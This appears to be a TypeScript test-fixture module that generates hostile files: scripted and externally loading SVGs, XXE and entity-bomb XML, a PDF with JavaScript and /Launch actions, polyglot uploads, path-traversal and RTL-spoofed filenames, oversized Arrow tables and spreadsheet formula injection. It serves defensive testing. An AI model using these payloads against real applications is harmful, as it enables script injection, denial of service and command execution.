// Files that mean harm: drawings, documents, pictures that are something else, tables that lie, and names that do not stay names.
import { nullType, tableFromArrays, tableToIPC } from "@uwdata/flechette";

const utf8 = (text: string) => new TextEncoder().encode(text);

/** A picture of one pixel. */
const GIF = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9QzzCKRxWOKhxVCABHPAn/2jVvfAAAAABJRU5ErkJggg==",
  "base64",
);

/** Drawings that try to run, to load and to reach out. */
export function hostileDrawings(listener: string, run: string): readonly string[] {
  const svg = (inner: string, more = "") =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" ${more}>${inner}</svg>`;
  return [
    svg(`<script>${run}</script><rect width="9" height="9"/>`, `onload="${run}"`),
    svg(`<image href="${listener}/image.png" width="9" height="9"/><image xlink:href="${listener}/xlink.png" width="9" height="9"/>`),
    svg(
      `<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${run}"/><img src="${listener}/f" onerror="${run}"/></body></foreignObject>`,
    ),
    svg(`<style>@import url(${listener}/import.css); rect { fill: url(${listener}/fill#x) }</style><rect width="9" height="9"/>`),
    svg(
      `<a href="javascript:${run}"><text y="9">x</text></a><use href="${listener}/use.svg#x"/><animate onbegin="${run}" attributeName="x" dur="1s"/>`,
    ),
    `<?xml version="1.0"?><?xml-stylesheet href="${listener}/style.xsl" type="text/xsl"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${listener}/entity">]>${svg("<text y='9'>&x;</text>")}`,
    `<?xml version="1.0"?><!DOCTYPE svg [${Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("")}<!ENTITY e0 "boom">]>${svg("<text y='9'>&e9;</text>")}`,
  ];
}

/** A document that acts when it is opened, closed, looked at and pressed. */
export function hostilePdf(listener: string): Uint8Array {
  const action = (body: string) => `<< /S ${body} >>`;
  const script = action(
    "/JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: 'LISTENER/js'}\\); app.launchURL\\('LISTENER/launch'\\);)",
  );
  const links = [
    action("/URI /URI (javascript:top.pwned=1)"),
    action("/URI /URI (data:text/html,<script>top.pwned=1</script>)"),
    action("/URI /URI (file:///etc/passwd)"),
    action("/Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>"),
    action("/Launch /F << /Type /Filespec /F (file:///bin/sh) >>"),
    action("/GoToR /F (LISTENER/other.pdf) /D [0 /Fit] /NewWindow true"),
    action("/SubmitForm /F << /FS /URL /F (LISTENER/submit) >> /Flags 4"),
    action("/ImportData /F (LISTENER/data.fdf)"),
    script,
    action("/URI /URI (https://harbour.example/timetable)"),
  ];
  const annotations = links.map(
    (link, n) =>
      `<< /Type /Annot /Subtype /Link /Rect [20 ${780 - n * 30} 300 ${800 - n * 30}] /A ${link} /AA << /E ${script} /PO ${script} >> >>`,
  );
  const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (<img src=x onerror=top.pwned=1>) /Rect [20 20 200 40] /AA << /F ${script} /K ${script} >> >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} /WP ${script} >> /AcroForm << /Fields [${field}] /XFA (<script>top.pwned=1</script>) >> /Names << /JavaScript << /Names [(x) ${script}] >> /EmbeddedFiles << /Names [(x.html) << /Type /Filespec /F (x.html) >>] >> >> >>`,
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${script} /C ${script} >> /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [${annotations.join(" ")} ${field}] >>`,
    "<< /Length 71 >>\nstream\nBT /F1 24 Tf 72 720 Td (<img src=x onerror=top.pwned=1>) Tj ET         \nendstream",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-</style><script>top.pwned=1</script> >>",
  ];
  const body = objects.map((object, n) => `${n + 1} 0 obj\n${object.replaceAll("LISTENER", listener)}\nendobj\n`).join("");
  // Without a table of its objects: readers look for them, as they do in what was broken on the way.
  return utf8(`%PDF-1.7\n<script>top.pwned=1</script>\n${body}trailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF\n`);
}

/** What claims to be a picture, a sound or a document, and is something else as well, or instead. */
export function confusedFiles(run: string): readonly { readonly name: string; readonly bytes: Uint8Array; readonly mime: string }[] {
  const html = `<!doctype html><script>${run}</script>`;
  return [
    { name: "page.png", mime: "image/png", bytes: utf8(html) },
    {
      name: "drawing.png",
      mime: "image/png",
      bytes: utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`),
    },
    { name: "both.gif", mime: "image/gif", bytes: Buffer.concat([GIF, utf8(`/*${html}*/=1;${run}`)]) },
    { name: "both.html", mime: "text/html", bytes: Buffer.concat([PNG, utf8(html)]) },
    { name: "script.jpg", mime: "image/jpeg", bytes: utf8(`GIF89a=0;${run}`) },
    { name: "page.pdf", mime: "application/pdf", bytes: utf8(`${html}%PDF-1.7`) },
    { name: "worker.js", mime: "text/javascript", bytes: utf8(`onfetch=()=>{};${run}`) },
    {
      name: "page.xhtml",
      mime: "application/xhtml+xml",
      bytes: utf8(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`),
    },
    { name: "utf7.txt", mime: "text/plain; charset=utf-7", bytes: utf8(`+ADw-script+AD4-${run}+ADw-/script+AD4-`) },
    { name: "wide.txt", mime: "text/plain", bytes: Buffer.from(`\ufeff${html}`, "utf16le") },
  ];
}

/** Names that an app may give to files, how a person reads them, and what some are called once they are saved. */
export const HOSTILE_NAMES: readonly { readonly given: string; readonly read: string; readonly saved: string }[] = [
  { given: "report\u202efdp.exe", read: "reportfdp.exe", saved: "reportfdp.exe" },
  { given: "\u2066safe\u2069\u200f.txt\u200b", read: "safe.txt", saved: "" },
  { given: "../../../etc/passwd.txt", read: "../../../etc/passwd.txt", saved: "passwd.txt" },
  { given: "..\\..\\windows\\system.ini", read: "..\\..\\windows\\system.ini", saved: "" },
  { given: "note\u0000.txt", read: "note.txt", saved: "" },
  { given: "con.txt", read: "con.txt", saved: "_con.txt" },
  { given: "a\r\nset-cookie: pwned=1.txt", read: "aset-cookie: pwned=1.txt", saved: "" },
  ...[
    '<img src=x onerror="top.pwned=1">.txt',
    `";}*{display:none}@import 'x';.txt`,
    "javascript:top.pwned=1//.txt",
    `${"long ".repeat(2_000)}.txt`,
  ].map((name) => ({ given: name, read: name, saved: "" })),
];

/** Tables that say more than they hold: tiny, and they would fill a machine. */
export function lyingTables(): readonly { readonly name: string; readonly bytes: Uint8Array }[] {
  const words = bytesOf({ a: ["x", "y", "z"], b: [1, 2, 3] });
  const nothing =
    tableToIPC(tableFromArrays({ a: [null, null, null] }, { types: { a: nullType() } }), { format: "stream" }) ?? new Uint8Array();
  return [
    { name: "more rows than bytes", bytes: withLongs(words, 3n, 3_000_000_000n) },
    { name: "billions of nothing", bytes: withLongs(nothing, 3n, 4_000_000_000n) },
    { name: "a negative count", bytes: withLongs(words, 3n, -1n) },
    { name: "offsets beyond the end", bytes: withOffsets(words, [0, 1, 2, 3], [0, 1, 2, 0x7fff_ffff]) },
    { name: "cut short", bytes: words.slice(0, words.length / 2) },
    { name: "a length of two gigabytes", bytes: Uint8Array.of(255, 255, 255, 255, 255, 255, 255, 127, 1, 2, 3, 4) },
    { name: "no table at all", bytes: Uint8Array.of(255, 255, 255, 255, ...utf8("<script>top.pwned=1</script>")) },
  ];
}

function bytesOf(columns: Readonly<Record<string, unknown[]>>): Uint8Array {
  return tableToIPC(tableFromArrays(columns), { format: "stream" }) ?? new Uint8Array();
}

/** Each long number of one value becomes another. */
function withLongs(bytes: Uint8Array, from: bigint, to: bigint): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 8 <= copy.length; at += 4) if (view.getBigInt64(at, true) === from) view.setBigInt64(at, to, true);
  return copy;
}

function withOffsets(bytes: Uint8Array, from: readonly number[], to: readonly number[]): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 4 * from.length <= copy.length; at += 4)
    if (from.every((value, n) => view.getInt32(at + 4 * n, true) === value))
      for (const [n, value] of to.entries()) view.setInt32(at + 4 * n, value, true);
  return copy;
}

/** Cells that a spreadsheet would run, and what is to be copied of them. */
export const FORMULAS: readonly (readonly [cell: string, copied: string])[] = [
  ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1+1)", "'@SUM(1+1)"],
  ["\t=1+1", "'\t=1+1"],
  ["\r=1+1", `"'\r=1+1"`],
  ["\n=1+1", `"'\n=1+1"`],
  ["＝1+1", "'＝1+1"],
  ['x,"=1+1', `"x,""=1+1"`],
  ["-12.5", "-12.5"],
  ["harmless", "harmless"],
];

/** A figure whose words, pictures and buttons lead elsewhere. */
export function hostileFigure(listener: string, run: string): object {
  const picture = (source: string) => ({ name: "x", source, x: 0, y: 1, sizex: 1, sizey: 1, xref: "paper", yref: "paper" });
  const words = `<img src="${listener}/words" onerror="${run}"><a href="javascript:${run}">x</a><a href="${listener}" target="_top">y</a>`;
  return {
    data: [
      {
        type: "bar",
        x: [words, "b"],
        y: [1, 2],
        name: words,
        text: [words, words],
        hovertemplate: words,
        customdata: [words],
        marker: { color: `url(${listener}/color)` },
      },
    ],
    layout: {
      title: { text: words },
      images: [
        picture(`${listener}/layout.png`),
        picture(`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${listener}/inner.png"/></svg>`),
      ],
      template: { layout: { images: [picture(`${listener}/template.png`)], imagedefaults: { source: `${listener}/default.png` } } },
      font: { family: `x; background: url(${listener}/font)` },
      annotations: [{ text: words, showarrow: false }],
      updatemenus: [{ buttons: [{ label: words, method: "relayout", args: [{ "images[0].source": `${listener}/button.png` }] }] }],
      sliders: [{ steps: [{ label: "x", method: "relayout", args: [{ images: [picture(`${listener}/slider.png`)] }] }] }],
    },
    frames: [{ name: "x", layout: { images: [picture(`${listener}/frame.png`)] } }],
    config: { plotlyServerURL: listener, showSendToCloud: true, topojsonURL: `${listener}/`, setBackground: run },
  };
}
